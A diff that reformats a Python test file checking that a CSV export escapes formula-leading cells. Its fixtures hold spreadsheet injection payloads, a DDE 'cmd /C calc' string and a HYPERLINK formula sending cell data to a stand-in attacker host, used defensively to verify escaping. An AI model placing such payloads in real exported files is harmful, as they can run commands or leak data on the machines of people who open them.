@@ -20,12 +20,14 @@ def _cells(data: bytes) -> list[list[str]]:
 
 
 def test_rows_to_csv_escapes_formula_leading_text_but_not_numbers() -> None:
-    out = rows_to_csv([
-        ["id", "note", "value"],
-        ["=1+1", "+cmd|' /C calc'!A0", -1.5],
-        ["@SUM(A1)", "-x", "+3e-2"],
-        ["\tTAB", "\rCR", None],
-    ])
+    out = rows_to_csv(
+        [
+            ["id", "note", "value"],
+            ["=1+1", "+cmd|' /C calc'!A0", -1.5],
+            ["@SUM(A1)", "-x", "+3e-2"],
+            ["\tTAB", "\rCR", None],
+        ]
+    )
     assert _cells(out) == [
         ["id", "note", "value"],
         ["'=1+1", "'+cmd|' /C calc'!A0", "-1.5"],
@@ -53,10 +55,28 @@ def test_formula_cells_round_trip_kept_in_model_escaped_only_on_export() -> None
 
     exported = rows_to_csv(measurement_rows(batch))
     cells = _cells(exported)
-    assert cells[0] == ["sample_id", "characteristic", "value", "unit", "uncertainty", "coverage_factor",
-                        "measured_at", "operator", "gauge_id"]
-    assert cells[1] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1)", "d", "-1.5", "mm", "", "", "",
-                        "'@SUM(1+1)", "'+cmd|' /C calc'!A0"]
+    assert cells[0] == [
+        "sample_id",
+        "characteristic",
+        "value",
+        "unit",
+        "uncertainty",
+        "coverage_factor",
+        "measured_at",
+        "operator",
+        "gauge_id",
+    ]
+    assert cells[1] == [
+        '\'=HYPERLINK("http://evil.example/?x="&A1)',
+        "d",
+        "-1.5",
+        "mm",
+        "",
+        "",
+        "",
+        "'@SUM(1+1)",
+        "'+cmd|' /C calc'!A0",
+    ]
     assert cells[2] == ["S2", "'-2+3", "2.5", "mm", "", "", "", "'-x", "'=1+1"]
     assert not any(c.startswith(("=", "+", "@")) for row in cells for c in row)
 
